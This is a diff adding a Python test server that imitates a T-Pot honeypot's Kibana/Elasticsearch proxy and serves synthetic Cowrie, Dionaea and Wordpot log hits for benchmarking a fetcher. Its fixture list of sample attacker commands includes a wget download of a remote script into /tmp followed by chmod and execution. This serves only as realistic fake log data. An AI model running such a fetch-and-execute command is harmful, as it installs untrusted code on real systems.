@@ -0,0 +1,491 @@
+"""
+Local stand-in for the T-Pot Kibana console proxy, for testing and
+benchmarking etl/fetcher.py without a live sensor.
+
+Serves synthetic Cowrie / Dionaea / Wordpot hits shaped like the samples
+in kibana_log_structure.json on
+    POST /kibana/api/console/proxy?path=<es path>&method=<es method>
+
+Understands the subset of Elasticsearch the fetcher uses: point-in-time
+open/close, `size`, `sort` on @timestamp (+ _shard_doc), `search_after`,
+`slice`, terms/range/ids queries, `_source` includes, `fields`,
+`filter_path` and `_cat/indices`. Latency and errors can be injected.
+
+Example:
+    python etl/tpot_standin.py --port 9201 --docs 200000 --days 2025-11-11
+    TPOT_HOST=http://127.0.0.1:9201 python etl/fetcher.py 2025-11-11
+"""
+
+import argparse
+import base64
+import gzip
+import hashlib
+import json
+import random
+import threading
+import time
+import uuid
+from bisect import bisect_left, bisect_right
+from datetime import datetime, timezone
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import parse_qs, urlsplit
+
+PROXY_PATH = "/kibana/api/console/proxy"
+INDEX_PREFIX = "logstash-"
+DAY_MS = 86_400_000
+
+SENSOR_WEIGHTS = [("Cowrie", 5), ("Dionaea", 4), ("Wordpot", 1)]
+
+COWRIE_EVENTS = [
+    ("cowrie.session.connect", "New connection: {src}:{sport} ({dst}:22) [session: {sid}]"),
+    ("cowrie.login.failed", "login attempt [root/123456] failed"),
+    ("cowrie.login.success", "login attempt [root/admin] succeeded"),
+    ("cowrie.command.input", "CMD: {cmd}"),
+    ("cowrie.command.input", "CMD: {cmd}"),
+    ("cowrie.session.closed", "Connection lost after 12.2 seconds"),
+]
+COWRIE_COMMANDS = [
+    "uname -a",
+    "cat /proc/cpuinfo",
+    "cd /tmp && wget http://198.51.100.7/x.sh -O /tmp/x.sh",
+    "chmod +x /tmp/x.sh; /tmp/x.sh",
+]
+DIONAEA_PROTOCOLS = [("smbd", 445), ("httpd", 80), ("mssqld", 1433), ("ftpd", 21)]
+WORDPOT_FILES = ["xmlrpc.php", "wp-login.php", "wp-admin/", "readme.html"]
+
+GEOIP_EXT = {
+    "latitude": 55.7123,
+    "country_name": "Denmark",
+    "country_code3": "DK",
+    "timezone": "Europe/Copenhagen",
+    "location": {"lat": 55.7123, "lon": 12.0564},
+    "longitude": 12.0564,
+    "asn": 59701,
+    "continent_code": "EU",
+    "ip": "79.171.148.157",
+    "as_org": "NetNordic Denmark A/S",
+    "country_code2": "DK",
+}
+
+
+# ---------------------------------------------------------------------------
+# Synthetic data
+# ---------------------------------------------------------------------------
+
+class DayIndex:
+    """
+    One synthetic logstash-YYYY.MM.DD index. Only timestamps and sensor
+    types are kept in memory (sorted by time, position = _shard_doc);
+    documents are rendered on demand from their position.
+    """
+
+    def __init__(self, name, day, docs, seed):
+        self.name = name
+        self.day_ms = int(day.replace(tzinfo=timezone.utc).timestamp() * 1000)
+        rng = random.Random(f"{seed}:{name}")
+
+        sensors = [s for s, _ in SENSOR_WEIGHTS]
+        weights = [w for _, w in SENSOR_WEIGHTS]
+        self.types = rng.choices(sensors, weights=weights, k=docs)
+        # Whole seconds with a random millisecond, so some hits share a
+        # millisecond and checkpoint tie-breaking gets exercised
+        self.ts = sorted(
+            self.day_ms + (i * DAY_MS) // max(docs, 1) // 1000 * 1000 + rng.randrange(0, 1000, 250)
+            for i in range(docs)
+        )
+
+    def doc_id(self, pos):
+        digest = hashlib.md5(f"{self.name}:{pos}".encode()).digest()
+        return base64.urlsafe_b64encode(digest).decode()[:20]
+
+    def source(self, pos):
+        ts_ms = self.ts[pos]
+        stamp = datetime.fromtimestamp(ts_ms / 1000, tz=timezone.utc)
+        at_ts = stamp.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ts_ms % 1000:03d}Z"
+        sensor = self.types[pos]
+        rng = random.Random(pos)
+        src_ip = f"10.40.{(pos // 97) % 250}.{(pos // 7) % 250 + 1}"
+        src_port = 1024 + rng.randrange(60000)
+
+        src = {
+            "t-pot_ip_int": "10.20.20.10",
+            "geoip_ext": dict(GEOIP_EXT),
+            "type": sensor,
+            "t-pot_hostname": "tpothost",
+            "t-pot_ip_ext": "79.171.148.157",
+            "src_port": src_port,
+            "geoip": {},
+            "src_ip": src_ip,
+            "host": "bc680b47ce46",
+            "tags": ["_geoip_lookup_failure"],
+            "@version": "1",
+            "@timestamp": at_ts,
+        }
+
+        if sensor == "Cowrie":
+            sid = f"{(pos // 6) * 2654435761 % (1 << 48):012x}"
+            eventid, template = COWRIE_EVENTS[pos % len(COWRIE_EVENTS)]
+            cmd = COWRIE_COMMANDS[rng.randrange(len(COWRIE_COMMANDS))]
+            src.update({
+                "eventid": eventid,
+                "session": sid,
+                "message": template.format(src=src_ip, sport=src_port, dst="172.19.0.3", sid=sid, cmd=cmd),
+                "sensor": "a469d5fefc67",
+                "path": "/data/cowrie/log/cowrie.json",
+                "dest_port": 22,
+                "protocol": "ssh",
+                "timestamp": stamp.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z",
+            })
+            if eventid == "cowrie.command.input":
+                src["input"] = cmd
+            if eventid == "cowrie.session.closed":
+                src["duration"] = "12.2"
+        elif sensor == "Dionaea":
+            protocol, port = DIONAEA_PROTOCOLS[rng.randrange(len(DIONAEA_PROTOCOLS))]
+            src.update({
+                "dest_ip": "172.19.0.2",
+                "dest_port": port,
+                "src_hostname": "",
+                "path": "/data/dionaea/log/dionaea.json",
+                "connection": {"protocol": protocol, "type": "accept", "transport": "tcp"},
+                "timestamp": stamp.strftime("%Y-%m-%dT%H:%M:%S.%f"),
+            })
+        else:
+            filename = WORDPOT_FILES[rng.randrange(len(WORDPOT_FILES))]
+            src.update({
+                "dest_ip": "0.0.0.0",
+                "device_family": "Other",
+                "dest_port": 80,
+                "browser_version": "",
+                "os_version": "",
+                "user_agent": "Mozilla/5.0 (compatible; WPScan-like; +https://wpscan.com/)",
+                "filename": filename,
+                "plugin": "commonfiles",
+                "url": f"http://10.20.20.10/{filename}",
+                "browser_family": "Other",
+                "os_family": "Other",
+                "path": "/data/wordpot/log/wordpot.log",
+                "timestamp": stamp.strftime("%Y-%m-%dT%H:%M:%S.%f"),
+            })
+        return src
+
+    def hit(self, pos, includes=None, with_fields=False):
+        src = self.source(pos)
+        hit = {
+            "_index": self.name,
+            "_id": self.doc_id(pos),
+            "_score": None,
+            "_version": 1,
+        }
+        if with_fields:
+            hit["fields"] = make_fields(src)
+        if includes is not None:
+            src = {k: v for k, v in src.items() if k in includes}
+        hit["_source"] = src
+        hit["sort"] = [self.ts[pos], pos]
+        return hit
+
+
+def make_fields(src, prefix=""):
+    """Rough imitation of the `fields` block: flattened keys plus .keyword twins."""
+    fields = {}
+    for key, value in src.items():
+        name = prefix + key
+        if isinstance(value, dict):
+            fields.update(make_fields(value, name + "."))
+            continue
+        fields[name] = value if isinstance(value, list) else [value]
+        if isinstance(value, str):
+            fields[name + ".keyword"] = [value]
+    return fields
+
+
+# ---------------------------------------------------------------------------
+# Query evaluation
+# ---------------------------------------------------------------------------
+
+def to_millis(value, fmt=None):
+    if fmt == "epoch_millis" or isinstance(value, (int, float)):
+        return int(value)
+    parsed = datetime.fromisoformat(value.replace("Z", "+00:00"))
+    if parsed.tzinfo is None:
+        parsed = parsed.replace(tzinfo=timezone.utc)
+    return int(parsed.timestamp() * 1000)
+
+
+def compile_query(query):
+    """
+    Turn the query into (types, gte_ms, lt_ms, excluded_ids). Anything
+    outside the handful of clauses the fetcher sends is rejected.
+    """
+    types = None
+    gte = None
+    lt = None
+    excluded = set()
+
+    def add_clause(clause):
+        nonlocal types, gte, lt
+        if "terms" in clause:
+            values = clause["terms"].get("type.keyword") or clause["terms"].get("type")
+            types = set(values) if types is None else types & set(values)
+        elif "term" in clause:
+            value = clause["term"].get("type.keyword") or clause["term"].get("type")
+            types = {value} if types is None else types & {value}
+        elif "range" in clause:
+            spec = clause["range"]["@timestamp"]
+            fmt = spec.get("format")
+            if "gte" in spec:
+                value = to_millis(spec["gte"], fmt)
+                gte = value if gte is None else max(gte, value)
+            if "gt" in spec:
+                value = to_millis(spec["gt"], fmt) + 1
+                gte = value if gte is None else max(gte, value)
+            if "lt" in spec:
+                value = to_millis(spec["lt"], fmt)
+                lt = value if lt is None else min(lt, value)
+            if "lte" in spec:
+                value = to_millis(spec["lte"], fmt) + 1
+                lt = value if lt is None else min(lt, value)
+        elif "match_all" in clause:
+            pass
+        elif "bool" in clause:
+            for key in ("filter", "must"):
+                items = clause["bool"].get(key, [])
+                for item in items if isinstance(items, list) else [items]:
+                    add_clause(item)
+            items = clause["bool"].get("must_not", [])
+            for item in items if isinstance(items, list) else [items]:
+                if "ids" not in item:
+                    raise ValueError(f"unsupported must_not clause: {item}")
+                excluded.update(item["ids"]["values"])
+        else:
+            raise ValueError(f"unsupported query clause: {clause}")
+
+    add_clause(query or {"match_all": {}})
+    return types, gte, lt, excluded
+
+
+def run_search(index, body):
+    types, gte, lt, excluded = compile_query(body.get("query"))
+    size = int(body.get("size", 10))
+
+    sort = body.get("sort") or [{"@timestamp": "asc"}]
+    first = sort[0]
+    direction = first.get("@timestamp", "asc")
+    if isinstance(direction, dict):
+        direction = direction.get("order", "asc")
+    descending = direction == "desc"
+
+    lo = 0 if gte is None else bisect_left(index.ts, gte)
+    hi = len(index.ts) if lt is None else bisect_left(index.ts, lt)
+
+    after = body.get("search_after")
+    if after is not None:
+        after_ts = int(after[0])
+        after_pos = int(after[1]) if len(after) > 1 else None
+        if descending:
+            hi = min(hi, after_pos if after_pos is not None else bisect_left(index.ts, after_ts))
+        else:
+            lo = max(lo, after_pos + 1 if after_pos is not None else bisect_right(index.ts, after_ts))
+
+    slice_spec = body.get("slice")
+    includes = None
+    source = body.get("_source")
+    if isinstance(source, dict):
+        includes = set(source.get("includes", []))
+    elif isinstance(source, list):
+        includes = set(source)
+    with_fields = bool(body.get("fields"))
+
+    positions = range(hi - 1, lo - 1, -1) if descending else range(lo, hi)
+    hits = []
+    for pos in positions:
+        if types is not None and index.types[pos] not in types:
+            continue
+        if slice_spec and pos % int(slice_spec["max"]) != int(slice_spec["id"]):
+            continue
+        if excluded and index.doc_id(pos) in excluded:
+            continue
+        hits.append(index.hit(pos, includes, with_fields))
+        if len(hits) >= size:
+            break
+    return hits
+
+
+def apply_filter_path(reply, filter_path):
+    """Keep only the listed top-level keys and hits.hits.<key> entries."""
+    if not filter_path:
+        return reply
+    keep = filter_path.split(",")
+    hit_keys = {k[len("hits.hits."):] for k in keep if k.startswith("hits.hits.")}
+
+    out = {k: v for k, v in reply.items() if k in keep}
+    if hit_keys or "hits" in keep:
+        hits = reply.get("hits", {}).get("hits", [])
+        if hit_keys:
+            hits = [{k: v for k, v in h.items() if k in hit_keys} for h in hits]
+        out["hits"] = {"hits": hits}
+    return out
+
+
+# ---------------------------------------------------------------------------
+# HTTP server
+# ---------------------------------------------------------------------------
+
+class StandinState:
+    def __init__(self, indices, latency_ms=0.0, error_rate=0.0, error_status=503, seed=0):
+        self.indices = indices
+        self.latency = latency_ms / 1000.0
+        self.error_rate = error_rate
+        self.error_status = error_status
+        self.rng = random.Random(seed)
+        self.lock = threading.Lock()
+        self.pits = {}
+        self.requests = 0
+        self.errors = 0
+
+
+class ProxyHandler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    state = None
+
+    def log_message(self, fmt, *args):
+        pass
+
+    def send_json(self, status, payload):
+        data = json.dumps(payload).encode()
+        headers = {"Content-Type": "application/json"}
+        if "gzip" in self.headers.get("Accept-Encoding", ""):
+            data = gzip.compress(data, compresslevel=1)
+            headers["Content-Encoding"] = "gzip"
+        self.send_response(status)
+        for key, value in headers.items():
+            self.send_header(key, value)
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def do_POST(self):
+        state = self.state
+        length = int(self.headers.get("Content-Length") or 0)
+        raw_body = self.rfile.read(length) if length else b""
+
+        url = urlsplit(self.path)
+        if url.path != PROXY_PATH:
+            return self.send_json(404, {"error": "not found"})
+
+        with state.lock:
+            state.requests += 1
+            fail = state.error_rate and state.rng.random() < state.error_rate
+            if fail:
+                state.errors += 1
+        if state.latency:
+            time.sleep(state.latency)
+        if fail:
+            return self.send_json(state.error_status, {"error": "injected failure"})
+
+        params = parse_qs(url.query)
+        es_path = params.get("path", [""])[0]
+        es_method = params.get("method", ["GET"])[0].upper()
+        body = json.loads(raw_body) if raw_body else {}
+
+        try:
+            status, reply = self.dispatch(es_method, es_path, body)
+        except (KeyError, ValueError) as e:
+            status, reply = 400, {"error": {"type": "parsing_exception", "reason": str(e)}}
+        self.send_json(status, reply)
+
+    def dispatch(self, method, es_path, body):
+        state = self.state
+        path, _, query_string = es_path.partition("?")
+        query = parse_qs(query_string)
+        parts = [p for p in path.split("/") if p]
+
+        if parts[:2] == ["_cat", "indices"]:
+            pattern = parts[2] if len(parts) > 2 else "*"
+            prefix = pattern.rstrip("*")
+            names = sorted(n for n in state.indices if n.startswith(prefix))
+            return 200, [{"index": n} for n in names]
+
+        if parts == ["_pit"] and method == "DELETE":
+            with state.lock:
+                state.pits.pop(body.get("id"), None)
+            return 200, {"succeeded": True, "num_freed": 1}
+
+        if len(parts) == 2 and parts[1] == "_pit" and method == "POST":
+            if parts[0] not in state.indices:
+                return 404, {"error": {"type": "index_not_found_exception"}}
+            pit_id = base64.urlsafe_b64encode(uuid.uuid4().bytes).decode()
+            with state.lock:
+                state.pits[pit_id] = parts[0]
+            return 200, {"id": pit_id}
+
+        if parts and parts[-1] == "_search":
+            pit = body.get("pit")
+            if pit:
+                with state.lock:
+                    index_name = state.pits.get(pit["id"])
+                if index_name is None:
+                    return 404, {"error": {"type": "search_context_missing_exception"}}
+            elif len(parts) == 2:
+                index_name = parts[0]
+            else:
+                raise ValueError("_search without index needs a pit")
+            if index_name not in state.indices:
+                return 404, {"error": {"type": "index_not_found_exception"}}
+
+            hits = run_search(state.indices[index_name], body)
+            reply = {
+                "took": 1,
+                "timed_out": False,
+                "hits": {"max_score": None, "hits": hits},
+            }
+            if pit:
+                reply["pit_id"] = pit["id"]
+            return 200, apply_filter_path(reply, query.get("filter_path", [""])[0])
+
+        return 400, {"error": f"unsupported request {method} {es_path}"}
+
+
+def make_server(host="127.0.0.1", port=9201, days=("2025-11-11",), docs=100_000,
+                latency_ms=0.0, error_rate=0.0, error_status=503, seed=0):
+    indices = {}
+    for day_str in days:
+        day = datetime.strptime(day_str, "%Y-%m-%d")
+        name = INDEX_PREFIX + day.strftime("%Y.%m.%d")
+        indices[name] = DayIndex(name, day, docs, seed)
+
+    state = StandinState(indices, latency_ms, error_rate, error_status, seed)
+    handler = type("BoundProxyHandler", (ProxyHandler,), {"state": state})
+    server = ThreadingHTTPServer((host, port), handler)
+    server.daemon_threads = True
+    server.state = state
+    return server
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Local stand-in for the T-Pot Kibana console proxy.")
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=9201)
+    parser.add_argument("--days", nargs="+", default=["2025-11-11"], help="Days (YYYY-MM-DD) to serve an index for.")
+    parser.add_argument("--docs", type=int, default=100_000, help="Documents per day index.")
+    parser.add_argument("--latency-ms", type=float, default=0.0, help="Delay added to every request.")
+    parser.add_argument("--error-rate", type=float, default=0.0, help="Fraction of requests answered with --error-status.")
+    parser.add_argument("--error-status", type=int, default=503)
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+
+    server = make_server(
+        args.host, args.port, args.days, args.docs,
+        args.latency_ms, args.error_rate, args.error_status, args.seed,
+    )
+    print(f"[INFO] T-Pot stand-in on http://{args.host}:{args.port}{PROXY_PATH} "
+          f"({len(args.days)} indices x {args.docs} docs)", flush=True)
+    try:
+        server.serve_forever()
+    except KeyboardInterrupt:
+        pass
+
+
+if __name__ == "__main__":
+    main()